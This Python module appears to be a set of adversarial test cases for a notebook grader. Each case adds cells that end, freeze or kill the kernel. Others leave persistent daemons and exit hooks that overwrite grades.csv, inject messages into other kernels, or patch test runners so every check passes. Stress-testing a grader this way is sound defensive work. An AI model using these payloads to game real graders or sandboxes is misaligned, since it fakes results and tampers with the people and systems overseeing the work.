"""The end of a kernel: ended early, too late, not at all, and what is left to act when everybody has gone."""

from attacks.attack import Work, attack, clean
from attacks.loot import LOOT
from attacks.themes.probes import ANYTHING
from attacks.themes.resources import CPU, LATE

ENDED = "ended the Python process it ran in"
EVERYTHING = ("to_messages", "render_for_training", "encode_for_generation", "answer_mask")


@attack(row="ends", wants="a cell that ends its kernel to count as one that passed", told=ENDED, loses_output=True)
def os_exit_in_a_cell(work: Work) -> None:
    work.add("import os\nos._exit(0)", after="prefill")


@attack(row="ends", wants="the same, by asking politely")
def sys_exit_in_cells(work: Work) -> None:
    work.add("import sys\nsys.exit(0)", after="prefill")
    work.add("raise SystemExit('all tests passed')", after="prefill")
    work.add("raise KeyboardInterrupt", after="prefill")
    work.add("import _thread\n_thread.interrupt_main()", after="prefill")


@attack(row="ends", wants="the same, by the kernel's own word")
def kernel_asked_to_leave(work: Work) -> None:
    work.add("exit()", after="prefill")


@attack(row="ends", wants="the same, by the loop that the kernel runs in")
def event_loop_stopped(work: Work) -> None:
    work.add("import asyncio\nasyncio.get_event_loop().stop()", after="prefill")


@attack(row="ends", wants="the same, in a call", told=ENDED)
def exits_in_calls(work: Work) -> None:
    work.answer(
        "prefill",
        """
        import os, sys
        ways = [lambda: sys.exit(0), lambda: os._exit(0), lambda: os.abort(), lambda: os.execv("/bin/true", ["true"])]
        def prefill(*_):
            ways.append(ways.pop(0))
            ways[-1]()
        """,
    )


@attack(row="ends", wants="a grader that waits for a process that has stopped", told=LATE, loses_output=True)
def sigstop_to_itself(work: Work) -> None:
    work.add("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", after="prefill")


@attack(
    row="ends",
    wants="a loop that no interrupt ends",
    told=CPU,
    loses_output=True,
)
def sigint_ignored(work: Work) -> None:
    work.add(
        """
        import signal
        for number in {*range(1, 65)} - {9, 19, 32, 33}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        after="prefill",
    )


@attack(row="ends", wants="the sandbox without its first process", told=ENDED, loses_output=True)
def first_process_killed(work: Work) -> None:
    work.add(
        """
        import os, signal
        for process in (1, os.getppid(), -1):
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSEGV, signal.SIGKILL):
                try:
                    os.kill(process, number)
                except OSError as error:
                    print(process, error)
        os.kill(os.getpid(), signal.SIGKILL)
        """,
        after="prefill",
    )


@attack(row="ends", wants="a kernel that nobody can talk to any more", told=f"{ENDED}|{LATE}", loses_output=True)
def every_descriptor_closed(work: Work) -> None:
    work.add("import os\nos.closerange(0, 1024)", after="prefill")


@attack(
    row="ends", wants="a grader that starts kernels for ever", told="was not run any more", costs=EVERYTHING,
    loses_output=True,
)  # fmt: skip
def restarts_used_up(work: Work) -> None:
    for _ in range(8):
        work.add("import os\nos._exit(0)", after="setup")


@attack(row="ends", wants="to run over the interpreter's stack", told=ENDED, loses_output=True)
def stack_run_over(work: Work) -> None:
    work.add("import ctypes\nctypes.string_at(0)", after="prefill")
    work.add("import sys\nsys.setrecursionlimit(10**6)\ndef deeper(): return [*map(lambda _: deeper(), [0])]\ndeeper()")


@attack(row="later writers", wants="to rewrite results when the kernel ends")
def atexit_writers(work: Work) -> None:
    target = str(work.places.open_folder / "target.txt")
    course = str(work.places.course)
    work.prepend(
        "prefill",
        f"""
        import atexit, pathlib, signal, weakref
        kernel = get_ipython().kernel
        def write(*_):
            for place in ({target!r}, "/tmp/{LOOT}", "/var/tmp/{LOOT}", {course + "/grades.csv"!r}):
                try:
                    pathlib.Path(place).write_text("owned")
                except OSError:
                    pass
            content = {{"name": "stdout", "text": "GOT" "IT"}}
            kernel.session.send(kernel.iopub_socket, "stream", content, parent=kernel.get_parent("shell"))
        atexit.register(write)
        signal.signal(signal.SIGTERM, write)
        kernel.shell_handlers["shutdown_request"] = write
        class Last:
            __del__ = write
        last = Last()
        weakref.finalize(last, write)
        """,
    )


DAEMON = f"""
import ctypes, os, signal, time
ctypes.CDLL(None).prctl(1, 0)  # no signal when the parent dies
for number in {{{{*range(1, 65)}}}} - {{{{9, 19, 32, 33}}}}:
    signal.signal(number, signal.SIG_IGN)
while True:
    for place in ({{target!r}}, "/tmp/{LOOT}", "/dev/shm/{LOOT}", "/run/course/sockets/{LOOT}"):
        try:
            open(place, "w").write("owned")
        except OSError:
            pass
    time.sleep(0.2)
"""
DAEMONS = f"""
import os, subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", DAEMON, "{LOOT}"], start_new_session=True, close_fds=False)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(DAEMON)
    os._exit(0)
"""


@attack(row="later writers", wants="a process that writes when everybody has gone")
def daemonised_children(work: Work) -> None:
    target = str(work.places.open_folder / "target.txt")
    work.prepend("prefill", f"DAEMON = {clean(DAEMON.format(target=target))!r}\n{DAEMONS}")


@attack(row="later writers", wants="to send outputs for the attacker from a process beside the kernel")
def child_that_speaks_for_the_kernel(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import os, threading, time
        kernel = get_ipython().kernel
        parent = kernel.get_parent("shell")
        def speak():
            import zmq
            place = os.path.dirname(kernel.iopub_socket.io_thread.socket.getsockopt(zmq.LAST_ENDPOINT).decode()[6:])
            for name in os.listdir(place):
                try:
                    socket = zmq.Context().socket(zmq.DEALER)
                    socket.connect(f"ipc://{place}/{name}")
                    message = kernel.session.msg("execute_request", {"code": "print(1)", "silent": False}, parent=None)
                    socket.send_multipart(kernel.session.serialize(message))
                except Exception:
                    pass
            time.sleep(3)
        threading.Thread(target=speak, daemon=True).start()
        """,
    )


@attack(row="later writers", wants="functions that are right when others are asked", earns=ANYTHING)
def threads_that_patch_later(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import threading, time, sys
        def patch():
            while True:
                space = get_ipython().user_ns
                space["prefill"] = space["render_for_inference"] = lambda *_: "anything"
                for module in ("unittest", "pytest"):
                    if module in sys.modules:
                        sys.modules[module].main = lambda *_, **__: 0
                time.sleep(0.01)
        for _ in range(4):
            threading.Thread(target=patch, daemon=True).start()
        """,
    )


@attack(row="later writers", wants="an alarm that rings while others are asked", costs=EVERYTHING)
def alarms_that_ring_later(work: Work) -> None:
    work.prepend(
        "prefill",
        """
        import signal
        count = [0]
        def ring(*_):
            count[0] += 1
            if count[0] % 50 == 0:
                raise Exception("good morning")
        signal.signal(signal.SIGALRM, ring)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        """,
    )
